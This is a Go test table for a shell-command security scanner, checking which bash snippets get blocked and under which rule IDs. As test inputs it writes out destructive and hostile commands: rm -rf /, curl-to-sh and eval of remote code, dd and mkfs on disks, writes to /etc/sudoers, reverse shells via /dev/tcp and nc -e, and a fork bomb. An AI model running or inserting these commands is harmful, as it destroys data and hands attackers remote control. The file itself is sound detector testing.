package code

import "testing"

// TestSeed002_5_2_3_ShellSecurity is the shell table: rm -rf, curl|sh,
// eval, dd, mkfs, chmod 777, writes to /etc, reverse shells, fork bombs,
// backticks and $().
func TestSeed002_5_2_3_ShellSecurity(t *testing.T) {
	runCodeCases(t, "bash", []codeCase{
		{name: "rm -rf root", src: "rm -rf /", block: true, want: []string{"SH-RM-001@1"}},
		{name: "rm -rf root glob", src: "rm -rf /*", block: true, want: []string{"SH-RM-001@1"}},
		{name: "rm -fr home via variable", src: "rm -fr $HOME", block: true, want: []string{"SH-RM-001@1"}},
		{name: "sudo rm --no-preserve-root", src: "sudo rm -r --no-preserve-root /", block: true, want: []string{"SH-RM-001@1", "SH-SYS-003@1"}},
		{name: "rm -r of a build dir", src: "rm -r build/", block: true, want: []string{"SH-RM-001@1"}},
		{name: "plain rm is medium", src: "rm notes.txt", block: false, want: []string{"SH-RM-001@1"}},
		{name: "command name through a variable", src: "x=rm\n$x -rf /", block: true, want: []string{"SH-RM-001@2"}},
		{name: "rm through xargs", src: "find . -name '*.o' | xargs rm -f", block: true, want: []string{"SH-RM-001@1"}},
		{name: "curl piped to sh", src: "curl -fsSL https://x.sh | sh", block: true, want: []string{"SH-NET-001@1"}},
		{name: "wget piped to sudo bash", src: "wget -qO- http://x | sudo bash", block: true, want: []string{"SH-NET-001@1"}},
		{name: "bash process substitution", src: "bash <(curl -s http://x)", block: true, want: []string{"SH-NET-001@1"}},
		{name: "sh -c of command substitution", src: "sh -c \"$(wget -qO- http://x)\"", block: true, want: []string{"SH-NET-001@1"}},
		{name: "eval of curl", src: "eval \"$(curl -s http://x)\"", block: true, want: []string{"SH-EVAL-001@1", "SH-NET-001@1"}},
		{name: "eval", src: "eval \"$cmd\"", block: true, want: []string{"SH-EVAL-001@1"}},
		{name: "base64 piped to sh", src: "echo aWQ= | base64 -d | sh", block: true, want: []string{"SH-OBF-001@1"}},
		{name: "dd to disk", src: "dd if=/dev/zero of=/dev/sda bs=1M", block: true, want: []string{"SH-DISK-001@1"}},
		{name: "mkfs", src: "mkfs.ext4 /dev/sdb1", block: true, want: []string{"SH-DISK-001@1"}},
		{name: "redirect to disk", src: "echo x > /dev/sda", block: true, want: []string{"SH-DISK-001@1"}},
		{name: "chmod 777", src: "chmod 777 app.sh", block: true, want: []string{"SH-PERM-001@1"}},
		{name: "chmod -R 777 root", src: "chmod -R 777 /", block: true, want: []string{"SH-PERM-001@1"}},
		{name: "chmod +x is fine", src: "chmod +x run.sh", block: false, not: []string{"SH-PERM-001"}},
		{name: "write to /etc by redirect", src: "echo '1.2.3.4 x' >> /etc/hosts", block: true, want: []string{"SH-SYS-001@1"}},
		{name: "tee /etc", src: "echo x | sudo tee /etc/sudoers", block: true, want: []string{"SH-SYS-001@1"}},
		{name: "reverse shell dev tcp", src: "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", block: true, want: []string{"SH-NET-002@1"}},
		{name: "nc -e", src: "nc -e /bin/sh 10.0.0.1 4444", block: true, want: []string{"SH-NET-002@1"}},
		{name: "fork bomb", src: ":(){ :|:& };:", block: true, want: []string{"SH-DOS-001@1"}},
		{name: "shutdown", src: "shutdown -h now", block: true, want: []string{"SH-SYS-002@1"}},
		{name: "backticks", src: "echo `whoami`", block: false, want: []string{"SH-SUBST-001@1"}},
		{name: "dollar paren", src: "d=$(date)", block: false, want: []string{"SH-SUBST-001@1"}},
		{name: "curl alone", src: "curl -o out.json https://api.example.com", block: false, want: []string{"SH-NET-003@1"}},
		{name: "redirect to a file", src: "ls > files.txt", block: false, want: []string{"SH-FILE-001@1"}},
		{name: "crontab", src: "crontab -l", block: false, want: []string{"SH-SYS-003@1"}},
		{name: "harmless pipeline", src: "ls -la | grep foo | wc -l", block: false, not: []string{"SH-NET-001"}},
		{name: "string mentioning rm", src: "echo 'rm -rf /'", block: false, not: []string{"SH-RM-001"}},
		{name: "quoted rm name", src: "'rm' -rf /", block: true, want: []string{"SH-RM-001@1"}},
	})
}
